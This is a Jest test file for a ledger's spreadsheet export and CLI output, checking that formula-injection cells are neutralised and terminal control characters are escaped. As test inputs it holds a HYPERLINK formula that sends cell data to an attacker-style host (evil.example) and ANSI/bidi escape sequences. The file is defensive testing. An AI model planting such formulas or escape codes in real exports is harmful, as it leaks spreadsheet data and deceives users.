// What the ledger hands to spreadsheets and terminals cannot act on them: CSV/XLSX cells a
// spreadsheet would run as a formula are neutralised (OWASP), plain numbers stay numbers;
// control characters in human CLI output are shown escaped.
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { keyValues, printable, table } from '../../infra/cli/output.js';
import { csvField, journalCsv } from '../../infra/export.js';
import { spreadsheetCell } from '../../infra/spreadsheet-cell.js';
import type { JournalEntry } from '../../projections/journal.js';

describe('spreadsheet cells', () => {
  test.each([
    [
      '=HYPERLINK("http://evil.example/?"&A1,"klick")',
      `'=HYPERLINK("http://evil.example/?"&A1,"klick")`,
    ],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['-2+3', `'-2+3`],
    ['+46 70 123', `'+46 70 123`],
    ['\tcmd', `'\tcmd`],
    ['\rcmd', `'\rcmd`],
  ])('given %j, when written as a cell, then it starts with an apostrophe', (value, expected) => {
    expect(spreadsheetCell(value)).toBe(expected);
  });

  test.each(['-142779.00', '142779.00', '+5', '0', 'RUN/573/2022', 'Jämtland', ''])(
    'given the plain value %j, when written as a cell, then it is unchanged',
    (value) => {
      expect(spreadsheetCell(value)).toBe(value);
    },
  );

  test('given any text, when written as a cell, then it never starts with a formula character unless it is a plain number', () => {
    fc.assert(
      fc.property(fc.string(), (value) => {
        const cell = spreadsheetCell(value);
        expect(/^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell)).toBe(false);
        expect(cell === value || cell === `'${value}`).toBe(true);
      }),
    );
  });

  test('given a payment cancelled with a formula as its reason, when the journal is written as CSV, then the reason is neutralised and quoted, the amount left alone', () => {
    const entry = {
      grantId: 'RUN/573/2022',
      paymentId: 'p-1',
      kind: 'advance',
      amount: '142779.00',
      status: 'cancelled',
      cancelReason: '=HYPERLINK("http://x.example","a, b")',
    } as unknown as JournalEntry;

    const row = journalCsv([entry]).split('\r\n')[1]!;

    expect(row).toContain(`"'=HYPERLINK(""http://x.example"",""a, b"")"`);
    expect(row).toContain(',142779.00,');
    expect(csvField('-2+3')).toBe(`'-2+3`);
  });
});

describe('terminal output', () => {
  test('given a title with escape codes, when shown by the CLI, then the codes are written as escapes and no control character reaches the terminal', () => {
    const title = 'Projekt\u001b[2J\u001b[H\u0007 ny rad\nslut\u202e';

    const out =
      keyValues([['Title', title]]) +
      table([{ title }], [{ header: 'Title', value: (r) => r.title }]);

    expect(printable(title)).toBe('Projekt\\x1b[2J\\x1b[H\\x07 ny rad\\x0aslut\\u{202e}');
    expect(out).toContain('Projekt\\x1b[2J');
    expect(out.replace(/\n/g, '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e]/);
  });
});
